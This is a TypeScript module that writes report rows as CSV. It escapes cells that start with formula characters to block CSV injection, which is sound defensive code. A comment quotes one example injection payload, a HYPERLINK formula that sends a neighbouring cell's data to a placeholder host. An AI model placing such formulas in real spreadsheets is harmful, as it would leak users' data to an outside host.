// Rows as CSV, for panels and residents who read reports in a spreadsheet (the API and the public site). Nested values are
// flattened: objects to dotted columns, arrays of scalars joined with "; ".
//
// Every cell goes through csvField: quoted, and neutralised when it is text a spreadsheet
// would run as a formula (CSV injection: a title of `=HYPERLINK("http://x/?"&B2,"open")`
// typed by one organisation must not become a live link or a command in a panel member's
// spreadsheet). As OWASP advises, text starting with = + - @, a tab or a carriage return
// gets a leading apostrophe, which spreadsheets show as text and do not display. Numbers are
// numbers, never formulas: a negative figure (-12) stays -12; the same characters typed as
// text become '-12.

export type CsvScalar = string | number | boolean | null | undefined;

/** The characters a spreadsheet reads as the start of a formula (and their full-width forms, which some read too). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** One cell: always quoted, quotes doubled, formula-like text neutralised. */
export function csvField(value: CsvScalar): string {
  let text = value === null || value === undefined ? '' : String(value);
  if (typeof value === 'string' && FORMULA_START.test(text)) text = `'${text}`;
  return `"${text.replaceAll('"', '""')}"`;
}

/** One line of cells, ended with a newline: what a streaming writer sends per row. */
export function csvLine(values: readonly CsvScalar[]): string {
  return `${values.map(csvField).join(',')}\n`;
}

function flatten(value: unknown, prefix: string, into: Record<string, CsvScalar>): void {
  if (value === undefined) return;
  if (value === null || typeof value !== 'object') {
    into[prefix] = value as CsvScalar;
    return;
  }
  if (Array.isArray(value)) {
    into[prefix] = value.every((v) => v === null || typeof v !== 'object') ? value.join('; ') : JSON.stringify(value);
    return;
  }
  for (const [key, inner] of Object.entries(value)) flatten(inner, prefix ? `${prefix}.${key}` : key, into);
}

/** A row's cells by dotted column name. */
export function flattenRow(row: Record<string, unknown>): Record<string, CsvScalar> {
  const into: Record<string, CsvScalar> = {};
  flatten(row, '', into);
  return into;
}

export function toCsv(rows: readonly Record<string, unknown>[]): string {
  const flat = rows.map(flattenRow);
  // Columns in order of first appearance, so sparse rows still line up.
  const columns = [...new Set(flat.flatMap((row) => Object.keys(row)))];
  if (columns.length === 0) return '';
  return csvLine(columns) + flat.map((row) => csvLine(columns.map((column) => row[column]))).join('');
}

/**
 * Pages of rows as CSV, a page at a time, so an export of any size never sits whole in memory.
 * The header is the first rows' columns: a view gives all its rows the same ones.
 */
export async function* csvPages(pages: AsyncIterable<{ rows: readonly Record<string, unknown>[] }>): AsyncGenerator<string> {
  let columns: string[] | undefined;
  for await (const { rows } of pages) {
    if (rows.length === 0) continue;
    const flat = rows.map(flattenRow);
    let text = '';
    if (columns === undefined) {
      columns = [...new Set(flat.flatMap((row) => Object.keys(row)))];
      text = csvLine(columns);
    }
    const header = columns;
    yield text + flat.map((row) => csvLine(header.map((column) => row[column]))).join('');
  }
}
